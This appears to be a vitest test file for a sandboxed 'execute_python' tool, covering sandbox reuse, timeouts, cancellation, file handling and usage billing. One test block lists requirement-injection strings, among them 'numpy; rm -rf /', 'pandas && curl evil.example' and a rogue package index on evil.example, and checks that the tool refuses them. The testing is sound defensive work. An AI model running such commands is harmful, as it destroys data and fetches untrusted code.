import type { ToolOutcome } from "@bot/actors";
import { type Clock, fixedClock, priceToolUse } from "@bot/domain";
import type { AttachmentPart } from "@bot/llm";
import { modelRegistry } from "@bot/llm";
import {
  type E2BExecutionScript,
  type E2BExecutionStep,
  type FakeE2B,
  type FakeE2BOptions,
  readPngSize,
  solidPng,
  startFakeE2B,
} from "@bot/testkit";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createExecutePythonTool, type ExecutePythonInput, type ExecutePythonOptions } from "../src/index.ts";
import { fakeToolRun } from "../src/toolbox/fake-tool-context.ts";

const T0 = "2026-03-01T10:00:00.000Z";
const chart = Buffer.from(solidPng(320, 200, [10, 120, 220]));
const prices = modelRegistry.toolPrices("execute_python");

/** An in-memory thread whose sessions expire on the test clock. */
function fakeThread(clock: Clock) {
  return fakeToolRun({ now: T0, clock });
}

let fake: FakeE2B;
let clock: ReturnType<typeof fixedClock>;
/** Scripts for the next executions, each advancing the shared clock when the fake receives it. */
let scripts: { advanceMs: number; script: E2BExecutionScript; onReceive?: () => void }[];

/** A fake E2B on the test clock whose executions play `scripts` in order. */
async function startScriptedFake(options: Omit<FakeE2BOptions, "clock"> = {}): Promise<FakeE2B> {
  const started = await startFakeE2B({ ...options, clock: () => clock.now().getTime() });
  started.respondToExecution(() => {
    const next = scripts.shift();
    if (!next) throw new Error("no execution scripted");
    clock.advance(next.advanceMs);
    next.onReceive?.();
    return next.script;
  });
  return started;
}

beforeEach(async () => {
  clock = fixedClock(T0);
  scripts = [];
  fake = await startScriptedFake();
});

afterEach(async () => {
  await fake.close();
});

function tool(overrides: Partial<ExecutePythonOptions> = {}) {
  return createExecutePythonTool({
    apiKey: fake.apiKey,
    apiUrl: fake.apiUrl,
    sandboxUrl: fake.sandboxUrl,
    registry: modelRegistry,
    clock,
    ...overrides,
  });
}

function willRun(advanceMs: number, steps: E2BExecutionStep[], onReceive?: () => void): void {
  scripts.push({
    advanceMs,
    script: { kind: "execution", steps },
    ...(onReceive === undefined ? {} : { onReceive }),
  });
}

function input(fields: Partial<ExecutePythonInput> & { code: string }): ExecutePythonInput {
  return tool().input.parse(fields);
}

interface Body {
  ok: boolean;
  stdout: string;
  stderr: string;
  results: { type: string; text?: string; main?: boolean; file_id?: string }[];
  error?: { name?: string; value?: string; traceback?: string; kind?: string; message?: string };
  files: { file_id: string; name: string; size: number; path: string | null; mime_type: string }[];
  input_files: { file_id: string; path: string }[];
  duration_ms: number;
  sandbox: "reused" | "new";
  notes?: string[];
}

function bodyOf(outcome: ToolOutcome): Body {
  const text = typeof outcome.content === "string" ? outcome.content : outcome.content[0];
  if (typeof text === "string") return JSON.parse(text) as Body;
  if (text?.type !== "text") throw new Error("the first block is not the JSON text");
  return JSON.parse(text.text) as Body;
}

function imagesOf(outcome: ToolOutcome): AttachmentPart[] {
  if (typeof outcome.content === "string") return [];
  return outcome.content.filter((part): part is AttachmentPart => part.type === "image");
}

/** The charge for `ms` of a 2 vCPU / 512 MiB sandbox, computed by hand from the registry's unit prices. */
function expectedAmount(ms: number): number {
  const vcpu = Math.ceil((ms * 2) / 1000);
  const mib = Math.ceil((ms * 512) / 1000);
  const vcpuPrice = prices?.prices.vcpuSeconds;
  const memoryPrice = prices?.prices.memoryMibSeconds;
  if (!vcpuPrice || !memoryPrice) throw new Error("execute_python prices missing");
  return (
    Math.ceil((vcpu * vcpuPrice.nanoUsd) / vcpuPrice.per) +
    Math.ceil((mib * memoryPrice.nanoUsd) / memoryPrice.per)
  );
}

describe("given a new thread and code that prints, shows a figure and saves a chart", () => {
  it("when it runs, then stdout, results, the chart file and both images reach the model and the charge matches the fake's lifetime", async () => {
    const thread = fakeThread(clock);
    willRun(2_345, [
      { type: "stdout", text: "mean = 2.5\n" },
      { type: "file", path: "/tmp/chart.png", data: chart },
      { type: "result", png: chart, text: "<Figure size 320x200>" },
      { type: "result", text: "42", isMainResult: true },
    ]);

    const outcome = await tool().run(input({ code: "print('mean = 2.5')\n..." }), thread.context);

    const body = bodyOf(outcome);
    expect(outcome).toMatchObject({ ok: true, errorKind: null });
    expect(body).toMatchObject({
      ok: true,
      stdout: "mean = 2.5\n",
      stderr: "",
      sandbox: "new",
      duration_ms: 2_345,
    });
    expect(body.results).toEqual([
      { type: "png", text: "<Figure size 320x200>", file_id: expect.any(String) },
      { type: "text", text: "42", main: true },
    ]);
    expect(body.files.map((file) => [file.name, file.path, file.size, file.mime_type])).toEqual([
      ["chart.png", "/tmp/chart.png", chart.byteLength, "image/png"],
      ["figure_1.png", null, chart.byteLength, "image/png"],
    ]);
    expect(thread.files.produced.map((file) => [file.name, file.kind, file.mimeType])).toEqual([
      ["chart.png", "image", "image/png"],
      ["figure_1.png", "image", "image/png"],
    ]);
    const images = imagesOf(outcome);
    expect(images).toHaveLength(2);
    expect(images[0]?.base64?.mediaType).toBe("image/png");
    expect(readPngSize(Buffer.from(images[0]?.base64?.data ?? "", "base64"))).toEqual({
      width: 320,
      height: 200,
    });

    const [record] = fake.sandboxes();
    expect(record).toMatchObject({ lifetimeMs: 2_345, cpuCount: 2, memoryMB: 512, state: "running" });
    expect(outcome.charge).toEqual({
      priceTableVersion: prices?.priceTableVersion,
      quantities: {
        vcpuSeconds: Math.ceil(record?.vcpuSeconds ?? 0),
        memoryMibSeconds: Math.ceil((record?.gibSeconds ?? 0) * 1024),
      },
      unitPrices: {
        vcpuSeconds: prices?.prices.vcpuSeconds,
        memoryMibSeconds: prices?.prices.memoryMibSeconds,
      },
      amount: expectedAmount(2_345),
      userAmount: expectedAmount(2_345),
    });
    // 5 vCPU-s × 14 000 + ceil(1 201 MiB-s × 4 500 / 1 024) nano-USD.
    expect(outcome.charge?.amount).toBe(75_278);
    expect(outcome.charge?.amount).toBe(
      priceToolUse({ vcpuSeconds: 5, memoryMibSeconds: 1201 }, prices?.prices ?? {}),
    );
    expect(thread.sessions.open.get("execute_python")).toEqual({
      sessionId: record?.sandboxId,
      expiresAt: "2026-03-01T10:10:00.000Z",
    });
  });
});

describe("given a template larger than the default", () => {
  it("when a call runs on it, then the charge uses the vCPUs and memory E2B reports for the sandbox", async () => {
    await fake.close();
    fake = await startScriptedFake({ templates: { "python-big": { cpuCount: 8, memoryMB: 4096 } } });
    const thread = fakeThread(clock);
    willRun(1_500, [{ type: "stdout", text: "ok\n" }]);

    const outcome = await tool({ template: "python-big" }).run(
      input({ code: "print('ok')" }),
      thread.context,
    );

    expect(fake.sandboxes()[0]).toMatchObject({ templateId: "python-big", cpuCount: 8, memoryMB: 4096 });
    // The create answer carries no resources; they come from GET /sandboxes/{id}.
    expect(
      fake.requests.some((request) => request.method === "GET" && request.path.startsWith("/sandboxes/")),
    ).toBe(true);
    expect(outcome.charge?.quantities).toEqual({ vcpuSeconds: 12, memoryMibSeconds: 6144 });
  });
});

describe("given a thread whose sandbox is alive", () => {
  it("when a second call comes 100 s later, then it reconnects, extends the session and charges only its own time", async () => {
    const thread = fakeThread(clock);
    const python = tool();
    willRun(1_000, [{ type: "file", path: "/tmp/first.png", data: chart }]);
    willRun(1_500, [
      { type: "file", path: "/tmp/second.txt", data: "done" },
      { type: "stdout", text: "x is still 1\n" },
    ]);

    const first = await python.run(input({ code: "x = 1" }), thread.context);
    clock.advance(100_000);
    const second = await python.run(input({ code: "print('x is still', x)" }), thread.context);

    expect(fake.sandboxes()).toHaveLength(1);
    const sandboxId = fake.sandboxes()[0]?.sandboxId;
    expect(bodyOf(first).sandbox).toBe("new");
    expect(bodyOf(second)).toMatchObject({ sandbox: "reused", stdout: "x is still 1\n" });
    // The first call's chart is still in /tmp but is not registered again.
    expect(bodyOf(second).files.map((file) => file.name)).toEqual(["second.txt"]);
    expect(
      fake.requests.filter((request) => request.path === `/v2/sandboxes/${sandboxId}/connect`),
    ).toHaveLength(1);
    expect(thread.sessions.open.get("execute_python")).toEqual({
      sessionId: sandboxId,
      expiresAt: "2026-03-01T10:11:41.000Z",
    });
    expect(fake.sandbox(sandboxId ?? "").endAt).toBeGreaterThanOrEqual(
      Date.parse("2026-03-01T10:11:41.000Z"),
    );
    // The sandbox lived 102.5 s, the user pays for the 1 s and 1.5 s the calls used.
    expect(fake.sandbox(sandboxId ?? "").lifetimeMs).toBe(102_500);
    expect(first.charge?.quantities).toEqual({ vcpuSeconds: 2, memoryMibSeconds: 512 });
    expect(second.charge?.quantities).toEqual({ vcpuSeconds: 3, memoryMibSeconds: 768 });
    expect(second.charge?.amount).toBe(expectedAmount(1_500));
  });

  it("when two calls of the thread run at once, then they take turns in one sandbox", async () => {
    const thread = fakeThread(clock);
    const python = tool();
    willRun(500, [
      { type: "delay", ms: 50 },
      { type: "stdout", text: "a\n" },
    ]);
    willRun(700, [{ type: "stdout", text: "b\n" }]);

    const [a, b] = await Promise.all([
      python.run(input({ code: "print('a')" }), thread.context),
      python.run(input({ code: "print('b')" }), thread.context),
    ]);

    expect(fake.sandboxes()).toHaveLength(1);
    expect([bodyOf(a).stdout, bodyOf(b).stdout]).toEqual(["a\n", "b\n"]);
    expect([bodyOf(a).sandbox, bodyOf(b).sandbox]).toEqual(["new", "reused"]);
    expect([a.charge?.quantities.vcpuSeconds, b.charge?.quantities.vcpuSeconds]).toEqual([1, 2]);
  });
});

describe("given a recorded session whose sandbox is gone", () => {
  it("when E2B no longer has it, then a new sandbox is created, the old session closed and the model told", async () => {
    const thread = fakeThread(clock);
    const python = tool();
    willRun(100, [{ type: "stdout", text: "one\n" }]);
    willRun(100, [{ type: "stdout", text: "two\n" }]);
    await python.run(input({ code: "print('one')" }), thread.context);
    const oldId = fake.sandboxes()[0]?.sandboxId ?? "";
    fake.expire(oldId);

    const outcome = await python.run(input({ code: "print('two')" }), thread.context);

    const newId = fake.sandboxes()[1]?.sandboxId ?? "";
    expect(fake.sandboxes()).toHaveLength(2);
    expect(bodyOf(outcome)).toMatchObject({ ok: true, sandbox: "new", stdout: "two\n" });
    expect(bodyOf(outcome).notes?.join(" ")).toContain("previous sandbox");
    expect(thread.sessions.log).toEqual([
      `opened ${oldId} until 2026-03-01T10:10:00.000Z`,
      `closed ${oldId}: not found at E2B (expired or killed)`,
      `opened ${newId} until 2026-03-01T10:10:00.100Z`,
    ]);
    expect(thread.sessions.open.get("execute_python")?.sessionId).toBe(newId);
  });

  it("when the recorded expiry has passed, then a new sandbox is created without trying the old one", async () => {
    const thread = fakeThread(clock);
    const python = tool();
    willRun(0, [{ type: "stdout", text: "one\n" }]);
    willRun(0, [{ type: "stdout", text: "two\n" }]);
    await python.run(input({ code: "print('one')" }), thread.context);
    clock.advance(11 * 60_000);

    const outcome = await python.run(input({ code: "print('two')" }), thread.context);

    expect(bodyOf(outcome).sandbox).toBe("new");
    expect(fake.requests.some((request) => request.path.endsWith("/connect"))).toBe(false);
    expect(fake.sandboxes().map((record) => record.state)).toEqual(["expired", "running"]);
  });
});

describe("given files in the thread", () => {
  it("when they are named as input_files, then they are uploaded to /tmp/inputs and their paths reported, not re-registered", async () => {
    const thread = fakeThread(clock);
    const csv = thread.files.add({ name: "data.csv", bytes: "a,b\n1,2\n3,4\n" });
    const report = thread.files.add({ name: "../My report (1).xlsx", bytes: "xlsx bytes" });
    let seen: string[] = [];
    willRun(200, [{ type: "stdout", text: "rows: 3\n" }], () => {
      seen = [...fake.files(fake.sandboxes()[0]?.sandboxId ?? "").keys()];
    });

    const outcome = await tool().run(
      input({ code: "import pandas as pd\n...", input_files: [csv.fileId, report.fileId] }),
      thread.context,
    );

    const body = bodyOf(outcome);
    expect(seen.sort()).toEqual(["/tmp/inputs/My_report_1_.xlsx", "/tmp/inputs/data.csv"]);
    expect(body.input_files).toEqual([
      { file_id: csv.fileId, path: "/tmp/inputs/data.csv" },
      { file_id: report.fileId, path: "/tmp/inputs/My_report_1_.xlsx" },
    ]);
    expect(
      fake
        .files(fake.sandboxes()[0]?.sandboxId ?? "")
        .get("/tmp/inputs/data.csv")
        ?.toString(),
    ).toBe("a,b\n1,2\n3,4\n");
    expect(body.files).toEqual([]);
    expect(outcome.charge?.quantities.vcpuSeconds).toBe(1);
  });

  it("when an input file id is unknown, then the call is refused before any sandbox and nothing is charged", async () => {
    const thread = fakeThread(clock);

    const outcome = await tool().run(input({ code: "1", input_files: ["file-404"] }), thread.context);

    expect(outcome).toMatchObject({ ok: false, errorKind: "bad_input", charge: null });
    expect(JSON.parse(outcome.content as string).message).toContain("file-404");
    expect(fake.requests).toEqual([]);
  });
});

describe("given code that fails", () => {
  it("when Python raises, then the model reads the traceback as a normal result and the run is charged", async () => {
    const thread = fakeThread(clock);
    willRun(3_000, [
      { type: "stdout", text: "before\n" },
      {
        type: "error",
        name: "ZeroDivisionError",
        value: "division by zero",
        traceback:
          "\u001b[0;31mTraceback (most recent call last)\u001b[0m:\n  Cell In[1], line 2\n\u001b[0;31mZeroDivisionError\u001b[0m: division by zero",
      },
    ]);

    const outcome = await tool().run(input({ code: "print('before')\n1/0" }), thread.context);

    const body = bodyOf(outcome);
    expect(outcome).toMatchObject({ ok: false, errorKind: "python_error" });
    expect(body).toMatchObject({
      ok: false,
      stdout: "before\n",
      error: { name: "ZeroDivisionError", value: "division by zero" },
    });
    // IPython's colour codes are stripped: they only cost the model tokens.
    expect(body.error?.traceback).toBe(
      "Traceback (most recent call last):\n  Cell In[1], line 2\nZeroDivisionError: division by zero",
    );
    expect(outcome.charge?.quantities).toEqual({ vcpuSeconds: 6, memoryMibSeconds: 1536 });
    expect(outcome.charge?.amount).toBe(expectedAmount(3_000));
    // A Python error leaves the kernel usable: the sandbox is kept for the next call.
    expect(fake.sandboxes()[0]?.state).toBe("running");
    expect(thread.sessions.open.has("execute_python")).toBe(true);
  });

  it("when the code outruns timeout_seconds, then it is stopped, the partial output kept, the sandbox killed and the time charged", async () => {
    const thread = fakeThread(clock);
    willRun(1_000, [
      { type: "stdout", text: "working\n" },
      { type: "delay", ms: 10_000 },
      { type: "stdout", text: "late\n" },
    ]);

    const outcome = await tool().run(input({ code: "while True: pass", timeout_seconds: 1 }), thread.context);

    const body = bodyOf(outcome);
    expect(outcome).toMatchObject({ ok: false, errorKind: "timeout" });
    expect(body.stdout).toBe("working\n");
    expect(body.error?.message).toContain("did not finish within 1 s");
    expect(body.notes?.join(" ")).toContain("sandbox was stopped");
    expect(outcome.charge?.quantities).toEqual({ vcpuSeconds: 2, memoryMibSeconds: 512 });
    expect(fake.sandboxes()[0]?.state).toBe("killed");
    expect(thread.sessions.open.has("execute_python")).toBe(false);
    expect(thread.sessions.log.at(-1)).toContain("killed after the run timed out");
  });

  it("when timeout_seconds is above the maximum, then it is capped and the model told", async () => {
    const thread = fakeThread(clock);
    willRun(0, [{ type: "stdout", text: "ok\n" }]);

    const outcome = await tool({ maxRunTimeoutMs: 120_000 }).run(
      input({ code: "print('ok')", timeout_seconds: 3600 }),
      thread.context,
    );

    expect(bodyOf(outcome).notes).toContain("timeout_seconds 3600 was capped to 120.");
  });
});

describe("given a run in progress", () => {
  it("when the call is cancelled, then it stops waiting, kills the sandbox and charges the time used", async () => {
    const thread = fakeThread(clock);
    willRun(
      4_000,
      [
        { type: "stdout", text: "start\n" },
        { type: "delay", ms: 20_000 },
      ],
      () => {
        setTimeout(() => thread.controller.abort(), 100);
      },
    );

    const started = Date.now();
    const outcome = await tool().run(input({ code: "import time; time.sleep(60)" }), thread.context);

    expect(Date.now() - started).toBeLessThan(5_000);
    expect(outcome).toMatchObject({ ok: false, errorKind: "cancelled" });
    expect(bodyOf(outcome).stdout).toBe("start\n");
    expect(outcome.charge?.quantities).toEqual({ vcpuSeconds: 8, memoryMibSeconds: 2048 });
    expect(outcome.charge?.amount).toBe(expectedAmount(4_000));
    expect(fake.sandboxes()[0]?.state).toBe("killed");
    expect(thread.sessions.log.at(-1)).toContain("killed after the call was cancelled");
  });

  it("when the call is cancelled before it starts, then nothing reaches E2B and nothing is charged", async () => {
    const thread = fakeThread(clock);
    thread.controller.abort();

    const outcome = await tool().run(input({ code: "1" }), thread.context);

    expect(outcome).toMatchObject({ ok: false, errorKind: "cancelled", charge: null });
    expect(fake.requests).toEqual([]);
  });
});

describe("given requirements", () => {
  it.each([
    ["--index-url=https://evil.example/simple"],
    ["-r requirements.txt"],
    ["git+https://github.com/x/y.git"],
    ["https://evil.example/pkg.whl"],
    ["pkg @ https://evil.example/pkg.whl"],
    ["numpy; rm -rf /"],
    ["pandas && curl evil.example"],
    ["numpy pandas"],
    ["$(whoami)"],
    ["./local/path"],
  ])(
    "when one is %j, then the call is refused as requirement injection with no sandbox and no charge",
    async (spec) => {
      const thread = fakeThread(clock);

      const outcome = await tool().run(input({ code: "1", requirements: ["sympy", spec] }), thread.context);

      expect(outcome).toMatchObject({ ok: false, errorKind: "bad_input", charge: null });
      expect(JSON.parse(outcome.content as string).message).toContain("requirement injection");
      expect(fake.requests).toEqual([]);
    },
  );

  it("when they are plain specs, then pip installs them through Python before the code runs", async () => {
    const thread = fakeThread(clock);
    willRun(2_000, [{ type: "stdout", text: "" }]);
    willRun(1_000, [{ type: "result", text: "1.13.0", isMainResult: true }]);

    const outcome = await tool().run(
      input({
        code: "import sympy; sympy.__version__",
        requirements: ["sympy==1.13.0", "pandas[excel]>=2,<3"],
      }),
      thread.context,
    );

    const codes = fake.requests
      .filter((request) => request.surface === "jupyter")
      .map((request) => (request.body as { code: string }).code);
    expect(codes).toHaveLength(2);
    expect(codes[0]).toContain("'-m', 'pip', 'install'");
    expect(codes[0]).toContain('["sympy==1.13.0","pandas[excel]>=2,<3"]');
    expect(codes[1]).toBe("import sympy; sympy.__version__");
    expect(bodyOf(outcome).results).toEqual([{ type: "text", text: "1.13.0", main: true }]);
    expect(outcome.charge?.quantities.vcpuSeconds).toBe(6);
  });

  it("when pip fails, then the code does not run and the install time is charged", async () => {
    const thread = fakeThread(clock);
    willRun(1_500, [
      {
        type: "error",
        name: "RuntimeError",
        value: "pip install failed (exit 1):\nERROR: No matching distribution found for nosuchpkg",
        traceback: "Traceback ...",
      },
    ]);

    const outcome = await tool().run(
      input({ code: "import nosuchpkg", requirements: ["nosuchpkg"] }),
      thread.context,
    );

    expect(outcome).toMatchObject({ ok: false, errorKind: "requirements_failed" });
    expect(bodyOf(outcome).error?.message).toContain("No matching distribution");
    expect(fake.requests.filter((request) => request.surface === "jupyter")).toHaveLength(1);
    expect(outcome.charge?.quantities.vcpuSeconds).toBe(3);
  });
});

describe("given E2B failing", () => {
  it("when the API key is refused (401), then provider_error names it and nothing is charged", async () => {
    const thread = fakeThread(clock);

    const outcome = await tool({ apiKey: "e2b_wrong" }).run(input({ code: "1" }), thread.context);

    expect(outcome).toMatchObject({ ok: false, errorKind: "provider_error", charge: null });
    expect(JSON.parse(outcome.content as string).message).toContain("401");
    expect(fake.sandboxes()).toEqual([]);
    expect(thread.sessions.log).toEqual([]);
  });

  it.each([
    [500, "HTTP 500"],
    [429, "429"],
    [503, "503"],
  ])(
    "when creating the sandbox answers %i, then provider_error says so and nothing is charged",
    async (status, text) => {
      const thread = fakeThread(clock);
      fake.fail({ target: "create", status, message: "boom" });

      const outcome = await tool().run(input({ code: "1" }), thread.context);

      expect(outcome).toMatchObject({ ok: false, errorKind: "provider_error", charge: null });
      expect(JSON.parse(outcome.content as string).message).toContain(text);
    },
  );

  it("when /execute answers 500, then provider_error, the sandbox is killed and the time it was held is charged", async () => {
    const thread = fakeThread(clock);
    fake.fail({ target: "execute", status: 500 });

    const outcome = await tool().run(input({ code: "1" }), thread.context);

    expect(outcome).toMatchObject({ ok: false, errorKind: "provider_error" });
    expect(bodyOf(outcome).error?.message).toContain("HTTP 500");
    expect(outcome.charge).toMatchObject({ quantities: { vcpuSeconds: 0, memoryMibSeconds: 0 }, amount: 0 });
    expect(fake.sandboxes()[0]?.state).toBe("killed");
  });

  it("when the sandbox expires mid-run, then provider_error says its state is lost, the session is closed and the run charged", async () => {
    const thread = fakeThread(clock);
    willRun(2_000, [{ type: "stdout", text: "start\n" }, { type: "expire" }]);

    const outcome = await tool().run(input({ code: "while True: pass" }), thread.context);

    expect(outcome).toMatchObject({ ok: false, errorKind: "provider_error" });
    expect(bodyOf(outcome).error?.message).toContain("expired or was killed while the code was running");
    expect(outcome.charge?.quantities).toEqual({ vcpuSeconds: 4, memoryMibSeconds: 1024 });
    expect(thread.sessions.open.has("execute_python")).toBe(false);
    expect(thread.sessions.log.at(-1)).toContain("lost during the call");
  });
});

describe("given output limits", () => {
  it("when the code writes more and larger files than allowed, then the extra ones are left out with notes", async () => {
    const thread = fakeThread(clock);
    const big = Buffer.from(solidPng(900, 900, [1, 2, 3]));
    willRun(0, [
      { type: "file", path: "/tmp/a.png", data: chart },
      { type: "file", path: "/tmp/b.png", data: big },
      { type: "file", path: "/tmp/c.txt", data: "c" },
      { type: "file", path: "/tmp/.hidden/x.txt", data: "x" },
      { type: "file", path: "/tmp/inputs/new.csv", data: "x" },
    ]);

    const outcome = await tool({ limits: { maxOutputFiles: 2, maxImageBlockBytes: big.byteLength - 1 } }).run(
      input({ code: "..." }),
      thread.context,
    );

    const body = bodyOf(outcome);
    expect(body.files.map((file) => file.name)).toEqual(["a.png", "b.png"]);
    expect(imagesOf(outcome)).toHaveLength(1);
    expect(body.notes?.join("\n")).toContain("1 more new file(s) were not registered");
    expect(body.notes?.join("\n")).toContain("b.png");
  });
});
